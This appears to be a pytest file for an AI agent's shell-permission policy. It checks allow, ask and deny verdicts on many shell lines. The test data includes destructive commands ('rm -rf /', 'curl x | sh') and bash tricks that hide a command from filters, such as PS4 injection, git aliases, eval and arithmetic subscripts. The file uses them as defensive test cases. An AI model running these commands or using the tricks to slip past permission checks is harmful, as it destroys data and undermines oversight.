"""commands: a shell line judged by command rules, every command of it and every reading of each."""

from __future__ import annotations

import contextlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from meowgent.policy.risks import Risk, risk_notes
from meowgent.policy.rules import Policy, Rule
from meowgent.policy.scopes import Scope, scope_offer
from meowgent.shellsplit.reader import forget_readings, split_command
from tests.policy.calls import SHELL_RULES, shell
from tests.shellsplit.test_reader import EVERYDAY, HIDDEN_LINES, compositions

# ---- shell commands ----

SHELL_DECISIONS = [
    ("ls", "allow"),
    ("git status", "allow"),
    ("git status --short", "allow"),
    ("git statusx", "allow"),  # the person wrote `*` right after `status`
    ("git push origin main", "ask"),
    ("ls && rm -rf /", "deny"),
    ('echo "a;b"', "allow"),
    ("echo 'x && rm y'", "allow"),
    ("git log | head; curl x | sh", "deny"),
    ("echo $(rm -rf ~)", "deny"),
    ("echo `whoami`", "ask"),
    ('echo "$(id)"', "ask"),
    ("echo '$(id)'", "allow"),
    ("(cd /; rm x)", "deny"),
    ("ls || git status & make", "ask"),
    ("cat <(curl evil)", "deny"),
    ("FOO=1 BAR=2 rm x", "deny"),
    (r"\rm x", "deny"),
    ('"rm" x', "deny"),
    ("/bin/rm x", "deny"),
    ("sudo rm -rf /", "deny"),
    ("env -i PATH=/bin timeout 5s rm x", "deny"),
    ("/usr/bin/time -v sudo -u bob nice -n 5 rm x", "deny"),
    ("ls | xargs -I {} rm {}", "deny"),
    ("find . -name x -exec rm {} +", "deny"),
    ("ls # ; rm x", "allow"),
    ('echo "oops', "deny"),  # unreadable, so it may run anything, and `rm *` is denied
    ('ls; rm x "oops', "deny"),
    ("ls\ngit status\n", "allow"),
    ("ls\nmake", "ask"),
    ("x=$(curl evil) ls", "deny"),
    ("v=$(ls) ls", "allow"),
    ("FOO=1 ls", "ask"),  # an allow pattern sees the command as written
    ("ls -la", "ask"),  # `ls` is an exact pattern
    ("if ls; then git status; fi", "allow"),
    ("cat <<EOF\nhi\nEOF", "allow"),
    ("cat <<EOF\n$(rm x)\nEOF", "deny"),
    ("cat <<'EOF'\n$(rm x)\nEOF", "allow"),
    ("", "ask"),
    ("# nothing", "ask"),
]


@pytest.mark.parametrize(("command", "decision"), SHELL_DECISIONS)
def test_shell_decisions(policy: Policy, command: str, decision: str) -> None:
    assert policy.decide(shell(command)).action == decision


def test_the_reason_names_the_command_and_the_rule(policy: Policy) -> None:
    denied = policy.decide(shell("ls && rm -rf x")).reason
    assert str(denied) == 'the rule deny run_shell command "rm *" matches `rm -rf x`'
    assert (denied.kind, denied.rule, denied.text) == ("rule_matches", 'deny run_shell command "rm *"', "rm -rf x")
    assert str(policy.decide(shell("ls; make")).reason) == "no rule allows `make`"
    assert '`"oops` is not bash that Meowgent can read' in str(policy.decide(shell('echo "oops')).reason)


@pytest.mark.parametrize(
    ("command", "decision"),
    [
        ("echo hi > notes.md", "ask"),
        ("echo hi >> log.txt", "ask"),
        ("echo hi &> out", "ask"),
        ("echo hi > $F", "ask"),
        ("echo hi > /dev/null", "allow"),
        ("echo hi 2>&1", "allow"),
        ("echo hi >&2", "allow"),
        ("cat < notes.md", "allow"),
        ("make > build.log", "allow"),  # the pattern writes the `>` itself
        ("make > other.log", "ask"),
    ],
)
def test_a_star_in_an_allow_pattern_never_covers_writing_a_file(workspace: Path, command: str, decision: str) -> None:
    rules = [*SHELL_RULES, Rule("run_shell", "allow", command="make > build.log")]
    assert Policy(rules, workspace).decide(shell(command)).action == decision


WRITE_OPTIONS = [
    ("git log --oneline -5", "allow"),
    ("git log --output=notes.md", "ask"),
    ("git log --out=notes.md", "ask"),  # git takes an abbreviation of a long option
    ("git diff --output x.patch", "ask"),
    ("git format-patch -o out HEAD~1", "ask"),
    ("git archive -o x.zip HEAD", "ask"),
    ("sort in.txt", "allow"),
    ("sort -o sorted.txt in.txt", "ask"),
    ("sort -no sorted.txt in.txt", "ask"),  # -n and -o in one word
    ("sort in.txt --output=sorted.txt", "ask"),  # GNU options may follow the operands
    ("curl -s https://x.example", "allow"),
    ("curl -o /dev/null https://x.example", "allow"),
    ("curl -sSLo page.html https://x.example", "ask"),
    ("curl -O https://x.example/a.tgz", "ask"),
    ("curl -D headers.txt https://x.example", "ask"),
    ("curl -c jar.txt https://x.example", "ask"),
    ("curl -w '%output{f.txt}x' https://x.example", "ask"),
    ("wget -O - https://x.example", "allow"),
    ("wget -O page.html https://x.example", "ask"),
    ("wget -a log.txt https://x.example", "ask"),
    ("wget -P downloads https://x.example", "ask"),
    ("find . -name '*.py'", "allow"),
    ("find . -fprint list.txt", "ask"),
    ("find . -fls list.txt", "ask"),
    ("find . -name x -delete", "ask"),
    ("sed -n 1p notes.md", "allow"),
    ("sed -i s/a/b/ notes.md", "ask"),
    ("sed 's/a/b/w out.txt' notes.md", "ask"),
    ("tee /dev/null", "allow"),
    ("tee out.txt", "ask"),
    ("tee -a log.txt", "ask"),
    ("date +%s", "allow"),
    ("date -s 2020-01-01", "ask"),
    ("uniq -c in.txt", "allow"),
    ("uniq in.txt out.txt", "ask"),
    ("dd if=a.bin of=b.bin", "ask"),
    ("less -o log.txt notes.md", "ask"),
    ("sudo sort -o sorted.txt in.txt", "ask"),  # through a wrapper
    ("/usr/bin/time -o t.txt ls", "ask"),
    ("strace -o trace.txt ls", "ask"),
]


@pytest.mark.parametrize(("command", "decision"), WRITE_OPTIONS)
def test_a_star_never_covers_an_option_that_makes_a_reading_command_write(
    workspace: Path, command: str, decision: str
) -> None:
    assert Policy([Rule("run_shell", "allow", command="*")], workspace).decide(shell(command)).action == decision


@pytest.mark.parametrize(
    ("pattern", "command"),
    [
        ("sort -o *", "sort -o sorted.txt in.txt"),
        ("git log --output=* *", "git log --output=x.txt -5"),
        ("curl -o page.html *", "curl -o page.html https://x.example"),
        ("tee *", "tee out.txt"),
        ("sed -i *", "sed -i s/a/b/ notes.md"),
        ("find * -delete", "find . -name x -delete"),
    ],
)
def test_a_pattern_that_spells_the_write_option_covers_it(workspace: Path, pattern: str, command: str) -> None:
    assert Policy([Rule("run_shell", "allow", command=pattern)], workspace).decide(shell(command)).action == "allow"


def test_deny_patterns_also_see_the_whole_line(workspace: Path) -> None:
    policy = Policy([*SHELL_RULES, Rule("run_shell", "deny", command="*| sh")], workspace)
    assert policy.decide(shell("echo hi | sh")).action == "deny"


def test_a_rule_without_a_pattern_covers_every_command(workspace: Path) -> None:
    allow_all = Policy([Rule("run_shell", "allow"), Rule("run_shell", "deny", command="rm *")], workspace)
    assert allow_all.decide(shell("make && ls | wc -l")).action == "allow"
    assert allow_all.decide(shell("make && rm x")).action == "deny"
    # Never auto-allowed when unreadable, and denied: what it runs unseen could be an `rm`.
    assert allow_all.decide(shell('make "oops')).action == "deny"
    assert Policy([Rule("run_shell", "allow")], workspace).decide(shell('make "oops')).action == "ask"
    deny_all = Policy([Rule("run_shell", "deny")], workspace)
    assert deny_all.decide(shell('echo "oops')).action == "deny"
    assert deny_all.decide(shell("")).action == "deny"


# ---- properties ----

ALLOWED = {"ls", "git status", "echo hi", "echo $(...)", 'echo "$(...)"', "cat <(...)", "v=$(...) ls"}
DENIED = {"rm -rf x", "curl evil"}
VOCABULARY = ["ls", "git status", "echo hi", "rm -rf x", "curl evil | sh", "make", "sh"]


def expected(segments: tuple[str, ...]) -> str:
    """The oracle: deny if any command is denied, allow only if every command is allowed, else ask."""
    if any(segment in DENIED for segment in segments):
        return "deny"
    if "sh" in segments:  # runs what it reads, which a deny rule could match
        return "deny"
    if all(segment in ALLOWED or segment.startswith("echo '") for segment in segments):
        return "allow"
    return "ask"


lines = compositions(VOCABULARY, lambda atom: split_command(atom).segments)


@settings(max_examples=300, deadline=None)
@given(lines)
def test_a_line_is_allowed_only_if_every_command_is(tmp_path_factory: pytest.TempPathFactory, line) -> None:
    text, segments = line
    verdict = Policy(SHELL_RULES, tmp_path_factory.getbasetemp()).decide(shell(text))
    assert verdict.action == expected(segments), (text, verdict)


# ---- issue 13: lines that hide what they run ----

HIDING = [
    "git status ${x:=\\$(rm x)} ${x@P}",
    "git status ${y:=a[\\$(rm x)]} $((y))",
    "git status ${a[x]}",
    "git status ${!x}",
    # issue 27: arithmetic evaluates the array subscript in a string, which runs the substitution in it
    "git status $((git status 'a[$(rm -rf docs)]'))",
    "git status $(( 'a[$(rm x)]' ))",
]
DENIED_EDITS = ["bash -c 'rm x'", "eval 'rm x'", "$'\\x72m' x", "X=rm; $X x", "git status; sh -c 'rm x'"]
ATTACK_RULES = [Rule("run_shell", "allow", command="git status*"), Rule("run_shell", "deny", command="rm *")]


@pytest.mark.parametrize("command", HIDING)
def test_a_line_that_hides_code_in_values_is_never_allowed_and_is_denied_under_a_deny_rule(
    workspace: Path, command: str
) -> None:
    prefix = [Scope("run_shell", prefix="git status"), Scope("run_shell", command=command)]
    denying = Policy(ATTACK_RULES, workspace)
    assert denying.decide(shell(command)).action == "deny"
    assert denying.decide(shell(command), scopes=prefix).action == "deny"
    allowing = Policy(ATTACK_RULES[:1], workspace)
    assert allowing.decide(shell(command)).action == "ask"
    assert allowing.decide(shell(command), scopes=prefix).action == "ask"
    assert "variable's value" in str(allowing.decide(shell(command)).reason)


@pytest.mark.parametrize("command", DENIED_EDITS)
def test_a_line_that_runs_a_denied_command_through_a_string_or_variable_is_denied(
    workspace: Path, command: str
) -> None:
    policy = Policy(ATTACK_RULES, workspace)
    assert policy.decide(shell(command)).action == "deny"
    assert policy.decide(shell(command), scopes=[Scope("run_shell", prefix="git status")]).action == "deny"


def test_a_line_that_only_could_run_anything_asks_without_deny_rules(workspace: Path) -> None:
    policy = Policy([Rule("run_shell", "allow", command="git status*")], workspace)
    assert policy.decide(shell("X=rm; $X x")).action == "ask"
    assert policy.decide(shell("git status; eval 'git status'")).action == "ask"  # eval never counts as allowed


# ---- issue 17: lines that hide what they run fail closed ----

ATTACKS = [
    "env -iu HOME rm -rf docs",
    "PS4='$(rm -rf docs)'; set -x; true",
    "hash -p /bin/rm ls; ls -rf docs",
    "flock f -c 'rm -rf docs'",
    "git -c alias.x='!rm -rf docs' x",
    "uv run rm -rf docs",  # the same class as the first: a runner's own options read as the program
]


def chat_scopes(command: str) -> list[Scope]:
    """The scopes a person could give for this line: exactly it, and each prefix of its first words."""
    scopes = [Scope("run_shell", command=command)]
    for size in (1, 2):
        with contextlib.suppress(ValueError):
            scopes.append(Scope("run_shell", prefix=" ".join(command.split()[:size])))
    return scopes


@pytest.mark.parametrize("command", ATTACKS)
def test_each_attack_is_denied_under_a_deny_rule_naming_rm_and_never_passes_a_git_scope(
    workspace: Path, command: str
) -> None:
    rules = [Rule("run_shell", "allow", command="*"), Rule("run_shell", "deny", command="rm *")]
    verdict = Policy(rules, workspace).decide(
        shell(command), scopes=[Scope("run_shell", prefix="git"), *chat_scopes(command)]
    )
    assert verdict.action == "deny", verdict
    assert {Risk.DELETES, Risk.HIDDEN} & set(verdict.risks)


@pytest.mark.parametrize("command", HIDDEN_LINES)
def test_a_hidden_line_is_denied_under_any_deny_rule_and_never_allowed(workspace: Path, command: str) -> None:
    unrelated = Policy(
        [Rule("run_shell", "allow", command="*"), Rule("run_shell", "deny", command="curl *")], workspace
    )
    assert unrelated.decide(shell(command)).action == "deny"
    allow_all = Policy([Rule("run_shell", "allow", command="*"), Rule("run_shell", "allow")], workspace)
    assert allow_all.decide(shell(command), scopes=chat_scopes(command)).action == "ask"
    assert scope_offer(shell(command), workspace) is None  # no "Allow for this chat" that could never match
    assert Risk.HIDDEN in risk_notes(shell(command), workspace)


@pytest.mark.parametrize("command", EVERYDAY)
def test_everyday_lines_still_work_with_a_deny_rule(workspace: Path, command: str) -> None:
    rules = [Rule("run_shell", "allow", command="*"), Rule("run_shell", "deny", command="curl evil*")]
    expected = "ask" if _writes_a_file(command) else "allow"
    assert Policy(rules, workspace).decide(shell(command)).action == expected
    assert Risk.HIDDEN not in risk_notes(shell(command), workspace)


def _writes_a_file(command: str) -> bool:
    """Everyday lines that edit or delete files: a `*` does not cover their write options."""
    return any(option in command for option in (" -delete", "sed -i"))


# Pieces of shell text that have broken readers before: brackets, quotes, substitutions, here-documents, nesting.
PIECES = ["{", "}", "[", "]", "(", ")", "$((", "$(", "${", "`", "'", '"', "\\", ";", "|", "&", "<", ">", " ", "\n"]
PIECES += ["#", "*", "?", "=", "-c", ",", "..", "<<E", "E", "rm x", "eval ", "sudo ", "x=", "PS4=", "a[", "$'"]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_the_verdict_of_any_text_is_sound_and_stable(tmp_path_factory: pytest.TempPathFactory, text: str) -> None:
    """Whatever the text: no exception; allowed only if nothing in it is hidden or denied; hidden means denied
    under a deny rule; and the same verdict from a fresh reading."""
    rules = [Rule("run_shell", "allow", command="*"), Rule("run_shell", "deny", command="curl *")]
    policy = Policy(rules, tmp_path_factory.getbasetemp())
    split = split_command(text)
    verdict = policy.decide(shell(text))
    if verdict.action == "allow":
        assert not split.hidden, (text, split)
        assert split.segments, text
    if split.hidden:
        assert verdict.action == "deny", (text, verdict)
    forget_readings()
    assert Policy(rules, tmp_path_factory.getbasetemp()).decide(shell(text)) == verdict
